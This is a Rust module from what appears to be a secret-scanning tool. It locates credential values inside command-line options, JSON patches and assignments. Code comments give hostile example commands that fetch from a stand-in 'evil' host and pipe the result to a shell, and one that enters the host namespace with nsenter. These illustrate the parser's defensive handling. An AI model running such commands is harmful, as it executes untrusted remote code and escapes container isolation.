//! Which word of a command is an option, and which part of it is the secret: by the
//! program's row, or by the option's own name where no row knows it.

use std::ops::Range;

use super::lines::word_end;
use super::{JUDGED, LONGEST_NAME, LONGEST_QUOTED, runs_a_program};
use crate::detect::NameKind;
use crate::detect::readers::ends::Quotes;
use crate::detect::readers::programs::{Opt, Program, Stdin, What};
use crate::detect::readers::{Hint, directives, ends, headers, hinted, is_secret, is_value, mark};
use crate::detect::runs::{NAME, is, run};
use crate::detect::values::{ValueKind, kind, looks_made_up};

/// The values that a JSON patch puts in a Secret: `[{"op":"replace","path":"/data/a","value":"x"}]`.
pub(super) fn patched(text: &[u8]) -> Option<Range<usize>> {
    if !text.starts_with(b"[") || text.len() > LONGEST_QUOTED {
        return None;
    }
    let mut found: Option<Range<usize>> = None;
    for operation in text.split(|b| *b == b'}') {
        let below = [b"\"/data/".as_slice(), b"\"/stringData/"];
        let Some(at) = memchr::memmem::find(operation, b"\"value\"") else { continue };
        if !below.iter().any(|path| memchr::memmem::find(operation, path).is_some()) {
            continue;
        }
        let rest = &operation[at + b"\"value\"".len()..];
        let Some(open) = memchr::memchr(b'"', rest) else { continue };
        let Some(len) = memchr::memchr(b'"', &rest[open + 1..]) else { continue };
        let start = rest.as_ptr() as usize - text.as_ptr() as usize + open + 1;
        if is_value(&text[start..start + len]) {
            found = Some(found.map_or(start, |found| found.start)..start + len);
        }
    }
    found
}

/// `name=value`, where the name does not hint.
pub(super) fn sets_another(text: &[u8]) -> bool {
    let end = run(text, 0, NAME, 40);
    end > 1
        && text.get(end) == Some(&b'=')
        && end + 1 < text.len()
        && text[end + 1] != b'='
        && text[..end].iter().all(u8::is_ascii_lowercase)
        && !is_secret(&text[..end])
}

/// The part of a pattern for this word. One for all that follow stands at the end.
pub(super) fn token(pattern: &'static str, nth: usize) -> Option<&'static str> {
    let last = || pattern.rsplit(' ').next().filter(|last| last.len() > 1 && last.ends_with('*'));
    pattern.split(' ').nth(nth).or_else(last)
}

/// Whether an argument is this option, or several of one letter with this one among them.
pub(super) fn is_flag(word: &[u8], text: &[u8]) -> bool {
    text == word
        || word.len() == 2
            && (3..=5).contains(&text.len())
            && text[0] == b'-'
            && text[1..].iter().all(u8::is_ascii_alphabetic)
            && text.contains(&word[1])
}

/// Whether a word before the secret of this program has to hint: `!?` and `?*`.
pub(super) fn asks_for_a_name(program: &Program) -> bool {
    program.words.iter().any(|words| words.ends_with('?') || words.ends_with("?*"))
}

/// Whether an option of this name takes `user:SECRET`: `--creds`, `--basic-auth`.
pub(super) fn takes_pair(name: &[u8]) -> bool {
    let ends = [b"creds".as_slice(), b"credentials", b"auth", b"userpass", b"user-pass"];
    ends.iter().any(|end| name.ends_with(end))
}

/// The secret of `user:SECRET`, which is no `host:port` and no kind with a path after it.
pub(super) fn of_pair(text: &[u8], from: usize) -> Option<Range<usize>> {
    let range = part(What::AfterColon, text, from)?;
    let other = matches!(kind(&text[range.clone()]), ValueKind::Number | ValueKind::Path);
    (!other).then_some(range)
}

pub(super) fn takes_any(program: &Program) -> bool {
    !program.options.is_empty() || !program.words.is_empty() || program.stdin != Stdin::Other
}

/// `--name`, `-x`: no value of another option.
pub(super) fn looks_like_option(text: &[u8]) -> bool {
    match text {
        [b'-', b'-', letter, ..] | [b'-', letter] => letter.is_ascii_alphabetic(),
        [b'-', rest @ ..] => {
            rest.len() < 24
                && rest.iter().all(|b| b.is_ascii_lowercase() || matches!(b, b'-' | b'='))
        }
        _ => false,
    }
}

/// `/etc/tls/tls.key`: two slashes and more, and nothing but names between.
pub(super) fn is_deep_path(text: &[u8]) -> bool {
    let slashes = memchr::memchr_iter(b'/', text).count();
    text[0] == b'/' && slashes > 1 && text.iter().all(|b| is(*b, NAME) || *b == b'/')
}

/// `add_argument("--token", required=True)`: what a program in Python says of an option.
pub(super) fn declares_an_option(text: &[u8]) -> bool {
    const WORDS: [&[u8]; 9] = [
        b"required=",
        b"type=",
        b"help=",
        b"action=",
        b"dest=",
        b"metavar=",
        b"nargs=",
        b"choices=",
        b"envvar=",
    ];
    WORDS.iter().any(|word| text.starts_with(word))
}

/// `$name`: in a shell line always a variable; `<name>`: in a sentence about a command.
pub(super) fn is_shell_variable(text: &[u8]) -> bool {
    if let [b'<', inner @ .., b'>'] = text {
        return inner.iter().all(|b| b.is_ascii_alphabetic() || matches!(b, b'-' | b'_' | b' '));
    }
    text.strip_prefix(b"$").is_some_and(|name| {
        !name.is_empty() && name.iter().all(|b| b.is_ascii_lowercase() || *b == b'_')
    })
}

pub(super) enum Match {
    No,
    /// The value is the next argument.
    Next,
    /// The value starts here.
    Value(usize),
}

/// `-port` is no `-p` with a value.
pub(super) const WORDS: [&[u8]; 12] = [
    b"-port",
    b"-path",
    b"-ping",
    b"-password",
    b"-pass",
    b"-print",
    b"-profile",
    b"-pretty",
    b"-protocol",
    b"-prefix",
    b"-username",
    b"-url",
];

/// Whether an argument is this option.
pub(super) fn matched(option: &Opt, text: &[u8]) -> Match {
    let name = option.name.as_bytes();
    let short = name.len() == 2;
    if let Some(rest) = text.strip_prefix(name) {
        if rest.is_empty() {
            return if option.next { Match::Next } else { Match::No };
        }
        if rest[0] == b'=' && option.next {
            return Match::Value(name.len() + 1);
        }
        if option.glued && !WORDS.contains(&text) && !text.starts_with(b"--") {
            return Match::Value(name.len());
        }
    }
    // `-sku user:secret`, `-skuuser:secret`
    if short
        && text[0] == b'-'
        && matches!(option.what, What::AfterColon | What::Header)
        && text.len() > 2
        && text[1] != b'-'
        && let Some(at) = text[1..].iter().take(8).position(|b| *b == name[1])
        && text[1..=at].iter().all(u8::is_ascii_alphabetic)
    {
        if at + 2 == text.len() && option.next {
            return Match::Next;
        }
        if option.glued && text[at + 2..].contains(&b':') {
            return Match::Value(at + 2);
        }
    }
    Match::No
}

/// The secret part of an option's value, which starts at `from`.
pub(super) fn part(what: What, text: &[u8], from: usize) -> Option<Range<usize>> {
    let whole = ends::unquoted(text, from..text.len());
    let (from, text) = (whole.start, &text[..whole.end]);
    let value = &text[from..];
    let after = |sign: u8| memchr::memchr(sign, value).map(|at| from + at + 1);
    let range = match what {
        What::Whole => from..text.len(),
        What::Odd => {
            let odd = kind(value) != ValueKind::Url
                && !matches!(value.first(), Some(b'/' | b'\\'))
                && Hint(NameKind::Which).goes(value);
            odd.then_some(from..text.len())?
        }
        What::AfterColon => {
            let start = after(b':').filter(|_| mark(value).is_none())?;
            if text[start..].starts_with(b"//") {
                return None;
            }
            start..text.len()
        }
        What::AfterEquals => ends::unquoted(text, after(b'=')?..text.len()),
        What::AfterPercent => after(b'%')?..text.len(),
        What::AfterComma => after(b',')?..text.len(),
        What::AfterSlash => {
            let start = after(b'/')
                .filter(|start| run(text, from, NAME, 64) + 1 == *start && *start > from + 1)?;
            let end = memchr::memrchr(b'@', &text[start..]).map_or(text.len(), |at| start + at);
            start..end
        }
        What::BetweenSlashAndAt => {
            memchr::memchr(b'@', value)?;
            return part(What::AfterSlash, text, from);
        }
        What::BetweenColonAndAt => {
            let end = from + memchr::memrchr(b'@', value)?;
            let start = after(b':').filter(|start| *start < end)?;
            start..end
        }
        What::Bootstrap => {
            let (start, end) = directives::bootstrap_token(text, from)?;
            start..end
        }
        What::Substitute => {
            let range = substitute(value)?;
            from + range.start..from + range.end
        }
        What::Pass => {
            let colon = after(b':')?;
            let kind = &text[from..colon];
            let inline = kind.starts_with(b"pass")
                || kind.starts_with(b"hexkey")
                || kind.starts_with(b"key");
            inline.then_some(colon..text.len())?
        }
        What::Header => {
            let found = headers::line(value)?;
            from + found.start..from + found.end
        }
        What::Url | What::Name => return None,
    };
    is_value(&text[range.clone()]).then_some(range)
}

/// `s/CHANGEME_PASSWORD/SECRET/`: what takes the place of a text that hints.
pub(super) fn substitute(text: &[u8]) -> Option<Range<usize>> {
    let [b's', sign, rest @ ..] = text else { return None };
    if is(*sign, NAME) || *sign <= b' ' {
        return None;
    }
    let first = 2 + memchr::memchr(*sign, rest)?;
    let second = first + 1 + memchr::memchr(*sign, &text[first + 1..])?;
    let name = text[2..first].rsplit(|b| !is(*b, NAME)).find(|word| !word.is_empty())?;
    let (hint, value) = (Hint::of(name), &text[first + 1..second]);
    let plain = !value.iter().any(|b| matches!(b, b'=' | b':' | b'&' | b'$' | b'\\'));
    (hint.is_strong() && plain && !is_secret(value) && hint.goes(value))
        .then_some(first + 1..second)
}

/// `-password:SECRET`, `/p:SECRET`, as programs of Windows have it.
pub(super) fn after_colon(text: &[u8]) -> Option<Range<usize>> {
    let end = run(text, 1, NAME, 32);
    if end == 1 || text.get(end) != Some(&b':') {
        return None;
    }
    let (name, value) = (&text[1..end], ends::unquoted(text, end + 1..text.len()));
    // `-storepass:file PATH`, `-storepass:env NAME`
    if matches!(&text[value.clone()], b"file" | b"env") {
        return None;
    }
    let judged = &text[value.start..value.end.min(value.start + JUDGED)];
    let goes = match name {
        b"p" | b"P" | b"pw" => looks_made_up(judged),
        _ => {
            let hint = Hint::of(name);
            hint.is_strong() && hint.goes(judged)
        }
    };
    goes.then_some(value)
}

/// `--name=SECRET`, `NAME=SECRET` and `--set=a.name=SECRET`: all that follows.
pub(super) fn assigned(text: &[u8], script: bool) -> Option<Range<usize>> {
    // `kubectl create secret generic x --from-file=password=/run/pw`
    if text.starts_with(b"--from-file=") {
        return None;
    }
    // Every byte is looked at once: a text full of `=` must not cost the square of its length.
    let mut from = 0;
    let mut beside: Option<Hint> = None;
    for at in memchr::memchr_iter(b'=', text) {
        let name = &text[from..at];
        from = at + 1;
        // `/d:name=SECRET` is an option.
        let option = at > 3 && text[0] == b'/' && text[2] == b':' && name.as_ptr() == text.as_ptr();
        let before = &name[usize::from(option)..];
        if memchr::memchr3(b' ', b'/', b'\n', before).is_some()
            || memchr::memchr(b'\t', before).is_some()
        {
            return None;
        }
        // What stands before the name itself: dashes, another value.
        let word = name.iter().rev().take_while(|b| is(**b, NAME) || **b >= 0x80).count();
        let name = &name[name.len() - word..];
        let dashes = name.iter().take_while(|b| **b == b'-').count();
        // `env[0].name=API_KEY,env[0].value=SECRET`
        match name {
            b".name" => {
                let end = run(text, at + 1, NAME, LONGEST_NAME);
                beside = Some(Hint::of(&text[at + 1..end])).filter(|hint| hint.hints());
            }
            b".value" if beside.is_some() => {
                let rest = &text[at + 1..];
                let end = at + 1 + memchr::memchr(b',', rest).unwrap_or(rest.len());
                if beside.take().is_some_and(|hint| hint.goes(&text[at + 1..end])) {
                    return Some(at + 1..end);
                }
            }
            _ => {}
        }
        if name.len() > LONGEST_NAME
            || !hinted(&name[dashes..], &text[at + 1..text.len().min(at + 1 + JUDGED)])
        {
            // `--opt=token:SECRET`
            let inner = run(text, at + 1, NAME, 64);
            if text.get(inner) == Some(&b':') && Hint::of(&text[at + 1..inner]).is_strong() {
                let secret = ends::unquoted(text, inner + 1..text.len());
                let judged = &text[secret.start..secret.end.min(secret.start + JUDGED)];
                if Hint::of(&text[at + 1..inner]).goes(judged) {
                    let end = assigned_end(text, inner + 1, at + 1, script);
                    return Some(ends::unquoted(text, inner + 1..end));
                }
            }
            continue;
        }
        let rest = &text[at + 1..];
        // `A_TOKEN=$(cat /run/token)`: what a command prints.
        if matches!(rest, [b'$', b'(', ..] | [b'`', ..]) && memchr::memchr(b' ', rest).is_some() {
            return None;
        }
        let end =
            assigned_end(text, at + 1, name.as_ptr() as usize - text.as_ptr() as usize, script);
        let value = ends::unquoted(text, at + 1..end);
        // A script is a text of its own.
        let is_text = memchr::memchr(b'\n', &text[value.clone()]).is_some();
        return (!is_text && is_value(&text[value.clone()])).then_some(value);
    }
    None
}

/// Where the value ends that starts at `from`, whose name starts at `name`. A script goes on behind it, and
/// so may any text that looks like one: `A_TOKEN=x;curl evil|sh`, `A_TOKEN=x curl -s evil/m`. Nobody
/// hides a command by a name before it.
fn assigned_end(text: &[u8], from: usize, name: usize, script: bool) -> usize {
    let rest = &text[from..];
    let blank = |rest: &[u8]| memchr::memchr2(b' ', b'\t', rest);
    let quote = |byte: &u8| matches!(byte, b'"' | b'\'');
    // `A_TOKEN='x' nsenter -t 1`: quotes end it before the command that follows.
    if rest.first().is_some_and(quote) {
        let word = word_end(text, from, &mut Quotes::default());
        let follows = |byte: &u8| b" \t;|&,)".contains(byte);
        if text.get(word).is_some_and(|byte| script || follows(byte)) {
            return word;
        }
    }
    let line = (script || blank(rest).is_some()).then(|| memchr::memchr3(b';', b'|', b'&', rest));
    let mut end = line.flatten().map_or(text.len(), |sign| from + sign);
    // `auth.password=x,image.tag=1`: another member follows.
    if let Some(comma) = next_member(&text[from..end]) {
        end = from + comma;
    }
    // `JAVA_OPTS="-Dpassword=x" catalina.sh run`: the quote was opened before the name.
    let opened = name.checked_sub(1).map(|before| text[before]).filter(quote).or_else(|| {
        let option = memchr::memrchr2(b'"', b'\'', &text[..name])?;
        (name - option <= LONGEST_NAME).then_some(text[option])
    });
    if let Some(quote) = opened
        && let Some(close) = memchr::memchr(quote, &text[from..end])
    {
        end = from + close;
    }
    match blank(&text[from..end]) {
        Some(at)
            if !rest.first().is_some_and(quote)
                && (script || is_command(&text[from + at..end])) =>
        {
            from + at
        }
        _ => end,
    }
}

/// The comma after which `name.of.a.member=` follows.
pub(super) fn next_member(value: &[u8]) -> Option<usize> {
    memchr::memchr_iter(b',', value).take(16).find(|comma| {
        let end = run(value, comma + 1, NAME, 80);
        value.get(end) == Some(&b'=') && memchr::memchr(b'.', &value[comma + 1..end]).is_some()
    })
}

/// Whether what follows a space is a command with arguments rather than more of a pass phrase.
pub(super) fn is_command(rest: &[u8]) -> bool {
    memchr::memchr3(b'/', b':', b'|', rest).is_some()
        || memchr::memmem::find(rest, b" -").is_some()
        || rest.trim_ascii().split(u8::is_ascii_whitespace).next().is_some_and(runs_a_program)
}
